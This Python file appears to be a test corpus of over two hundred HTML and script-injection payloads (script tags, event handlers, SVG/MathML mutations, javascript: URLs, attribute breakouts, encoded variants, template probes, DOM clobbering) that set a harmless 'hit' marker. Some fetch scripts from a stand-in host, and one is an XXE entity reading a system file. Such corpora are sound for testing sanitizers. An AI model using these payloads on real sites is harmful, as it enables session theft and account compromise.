"""More than two hundred strings that would run a script, make an element or leave an attribute, taken for markup.

Each that can run anything sets `window.hit` or opens a dialog, so that a browser shows at once when one worked.
"""

SCRIPTS = (
    "<script>hit=1</script>", "<SCRIPT>hit=1</SCRIPT>", "<ScRiPt >alert(1)</sCrIpT >", "<script\n>hit=1</script\n>",
    "<script/x>hit=1</script>", "<script\t>hit=1</script>", "<script\f>hit=1</script>", "<script>hit=1//",
    "<script>hit=1<!--", "<script src=data:,hit=1></script>", '<script src="//x.invalid/a.js"></script>',
    "<script type=module>window.hit=1</script>", "<script async>hit=1</script>", "<script nonce=''>hit=1</script>",
    "<script>window['hit']=1</script>", "<script>self.hit=confirm(1)</script>", "<scr<script>ipt>hit=1</script>",
    "<<script>hit=1//<</script>", "</script><script>hit=1</script>", "<script>/*</script>*/hit=1",
    "<script charset=utf-7>+AGgAaQB0AD0AMQ-</script>", "<script for=window event=onload>hit=1</script>",
    "<noscript><p title='</noscript><script>hit=1</script>'>", "<script>throw hit=1</script>", "<script >prompt(1)</script >",
    "<script>import('data:text/javascript,hit=1')</script>", "<script xmlns='http://www.w3.org/1999/xhtml'>hit=1</script>",
)  # fmt: skip
HANDLERS = (
    "<img src=x onerror=hit=1>", "<img src=x onerror='hit=1'>", '<img src=x onerror="alert(1)">', "<IMG SRC=x ONERROR=hit=1>",
    "<img/src=x/onerror=hit=1>", "<img src onerror\n=\nhit=1>", "<img src=x onerror=hit=1//", "<img src=x:x onerror\t=hit=1>",
    "<image src=x onerror=hit=1>", "<body onload=hit=1>", "<body onpageshow=hit=1>", "<html onmousemove=hit=1>",
    "<input autofocus onfocus=hit=1>", "<select autofocus onfocus=hit=1>", "<textarea autofocus onfocus=hit=1>",
    "<details open ontoggle=hit=1>", "<video><source onerror=hit=1></video>", "<audio src=x onerror=hit=1>",
    "<marquee onstart=hit=1>", "<div onpointerover=hit=1 style='position:fixed;inset:0'>x</div>", "<p tabindex=0 onfocus=hit=1>x",
    "<style onload=hit=1></style>", "<link rel=stylesheet href=data:, onload=hit=1>", "<iframe onload=hit=1></iframe>",
    "<object onerror=hit=1 data=x></object>", "<embed src=x onerror=hit=1>", "<track onerror=hit=1>",
    "<a onclick=hit=1 href=#>x</a>", "<button onclick=hit=1>x</button>", "<form onsubmit=hit=1><button>x</button></form>",
    "<b onanimationstart=hit=1 style='animation:x'>x</b>", "<b onbeforematch=hit=1 hidden=until-found>x</b>",
    "<dialog open onclose=hit=1><form method=dialog><button>x</button></form></dialog>", "<x contenteditable onbeforeinput=hit=1>x",
    "<input type=image src=x onerror=hit=1>", "<keygen autofocus onfocus=hit=1>",
)  # fmt: skip
DRAWN = (
    "<svg onload=hit=1>", "<svg/onload=hit=1>", "<svg><script>hit=1</script></svg>", "<svg><script href=data:,hit=1 /></svg>",
    "<svg><script>hit&#61;1</script></svg>", "<svg><animate onbegin=hit=1 attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:hit=1 /><text x=20 y=20>x</text></a></svg>",
    "<svg><set attributeName=onload to=hit=1 />", "<svg><use href='data:image/svg+xml,<svg id=x onload=hit=1></svg>#x' />",
    "<svg><foreignObject><img src=x onerror=hit=1></foreignObject></svg>", "<svg><title><img src=x onerror=hit=1></title></svg>",
    "<svg><desc><script>hit=1</script></desc></svg>", "<svg><style><img src=x onerror=hit=1></style></svg>",
    "<svg xmlns:xlink=x><a xlink:href='javascript:hit=1'><text>x</text></a></svg>", "<svg><image href=x onerror=hit=1 /></svg>",
    "<math><mtext><script>hit=1</script></mtext></math>", "<math href='javascript:hit=1'>x</math>",
    "<math><maction actiontype=statusline xlink:href='javascript:hit=1'>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=hit=1></annotation-xml></math>",
    "<template><script>hit=1</script></template>", "<template shadowrootmode=open><img src=x onerror=hit=1></template>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hit=1&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit=1>",
    "<svg></p><style><a id='</style><img src=x onerror=hit=1>'>", "<noembed><img title='</noembed><img src=x onerror=hit=1>'>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=hit=1>'>",
    "<math><mi><b></math><svg><style><img src=x onerror=hit=1>", "<xmp><p title='</xmp><svg/onload=hit=1>'>",
)  # fmt: skip
ADDRESSES = (
    "javascript:hit=1", "JaVaScRiPt:hit=1", "java\tscript:hit=1", "java\nscript:hit=1", "\x01javascript:hit=1",
    " javascript:hit=1", "javascript&colon;hit=1", "javascript&#58;hit=1", "&#106;avascript:hit=1", "javascript://%0ahit=1",
    "javascript://example.org/%0Aalert(1)", "data:text/html,<script>hit=1</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=hit=1>", "vbscript:hit=1",
    "blob:hit=1", "view-source:javascript:hit=1", "//x.invalid/a", "\\\\x.invalid\\a", "/\\x.invalid",
    'https:x.invalid/"onmouseover="hit=1', "https://x.invalid/'onmouseover='hit=1", "http://x.invalid/ onmouseover=hit=1 ",
    "https://javascript:hit=1@x.invalid/", "<a href=javascript:hit=1>x</a>", "<a href='java&Tab;script:hit=1'>x</a>",
    "<iframe src=javascript:hit=1></iframe>", "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<form action=javascript:hit=1><button>x</button></form>", "<button formaction=javascript:hit=1>x</button>",
    "<object data=javascript:hit=1></object>", "<meta http-equiv=refresh content='0;url=javascript:hit=1'>",
    "<base href=//x.invalid/>", "<link rel=prefetch href=//x.invalid/>", "<embed src=data:text/html,<script>hit=1</script>>",
    "feed:javascript:hit=1", "https://x.invalid/?q=<script>hit=1</script>", "mailto:x?body=<img src=x onerror=hit=1>",
)  # fmt: skip
BREAKOUTS = (
    '" onmouseover="hit=1', "' onmouseover='hit=1", "` onmouseover=`hit=1", '"onfocus=hit=1 autofocus x="', "'onfocus=hit=1 autofocus '",
    '"><script>hit=1</script>', "'><script>hit=1</script>", "`><script>hit=1</script>", '"/><svg/onload=hit=1>', "x onmouseover=hit=1 ",
    '"\nonmouseover="hit=1', '"\x0conmouseover="hit=1', '">', "'>", "\"'>--><!--<img src=x onerror=hit=1>", '" style="background:url(//x.invalid)"',
    "</title><script>hit=1</script>", "</textarea><script>hit=1</script>", "</style><script>hit=1</script>", "</option></select><img src=x onerror=hit=1>",
    "</datalist><img src=x onerror=hit=1>", "</q></p></li></ol><script>hit=1</script>", "</mark></bdi><img src=x onerror=hit=1>", "</main></body></html><script>hit=1</script>",
    "--><script>hit=1</script>", "--!><img src=x onerror=hit=1>", "<!--><img src=x onerror=hit=1>-->", "<!-- <img src=x onerror=hit=1> -", "]]><script>hit=1</script>",
    "<![CDATA[<script>hit=1</script>]]>", "<?xml version='1.0'?><script>hit=1</script>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/hostname'>]>&e;", "<img src='x", '<a href="x',
)  # fmt: skip
WRITTEN_OTHERWISE = (
    "&lt;script&gt;hit=1&lt;/script&gt;", "&#60;script&#62;hit=1&#60;/script&#62;", "&#x3c;img src=x onerror=hit=1&#x3e;", "&amp;lt;script&amp;gt;hit=1",
    "%3Cscript%3Ehit%3D1%3C/script%3E", "%253Cscript%253Ehit=1", "+ADw-script+AD4-hit=1+ADw-/script+AD4-", "\\u003cscript\\u003ehit=1\\u003c/script\\u003e",
    "\\x3cscript\\x3ehit=1", "\uff1cscript\uff1ehit=1\uff1c/script\uff1e", "\ufeff<script>hit=1</script>", "<\x00script>hit=1</script>",
    "<scr\x00ipt>hit=1</script>", "\u2039script\u203ahit=1", "<script\u00a0>hit=1</script>", "\u202e>tpircs/<1=tih>tpircs<", "\u2066<img src=x onerror=hit=1>\u2069",
    "\u2028</script><script>hit=1</script>", "\u2029hit=1;//", "\u200b<script>hit=1</script>\ufff9", "<\u017fcript>hit=1</\u017fcript>", "\U000e0001<svg onload=hit=1>",
)  # fmt: skip
LANGUAGES = (
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% raw %}{{ cycler.__init__.__globals__ }}{% endraw %}", "{{constructor.constructor('hit=1')()}}",
    "${hit=1}", '"};hit=1;//', "'};hit=1;//", "\\';hit=1;//", '{"__proto__": {"hit": 1}}', '"]}</script><script>hit=1</script>', "</figure><img src=x onerror=hit=1>",
)  # fmt: skip
ATTRIBUTES = (
    "<p hx-on:load='hit=1'>x", "<p data-hx-on-load='hit=1'>x", "<p hx-get='/sign-out' hx-trigger=load>x", "<p data-hx-get=//x.invalid hx-trigger=load>x",
    "<p hx-vals='js:{x: hit=1}' hx-get=/ hx-trigger=load>x", "<p hx-swap-oob=true id=main>x", "<figure data-picture=timeline data-values='[]'>",
    "<p data-theme-switch>x", "<meta name=htmx-config content='{\"allowEval\":true}'>", "<p id=main>x", "<a id=Plot>x</a>",
)  # fmt: skip
CLOBBERS = (
    "<form id=d3><input name=utcMonth></form>", "<img name=cytoscape>", "<a id=hit href=x>x</a>", "<form name=document><input name=querySelector></form>",
    "<style>*{display:none}</style>", "<style>@import '//x.invalid/a.css'</style>", "<b style='background:url(//x.invalid/a)'>x", "}</style><style>*{color:red",
    "expression(hit=1)", "x" * 3000 + "<script>hit=1</script>", "<" * 2000, '<b a="' * 300, "&" * 500 + "<img src=x onerror=hit=1>",
    "<script>" * 200 + "hit=1",
)  # fmt: skip
INJECTIONS = (
    *SCRIPTS, *HANDLERS, *DRAWN, *ADDRESSES, *BREAKOUTS, *WRITTEN_OTHERWISE, *LANGUAGES, *ATTRIBUTES, *CLOBBERS
)  # fmt: skip
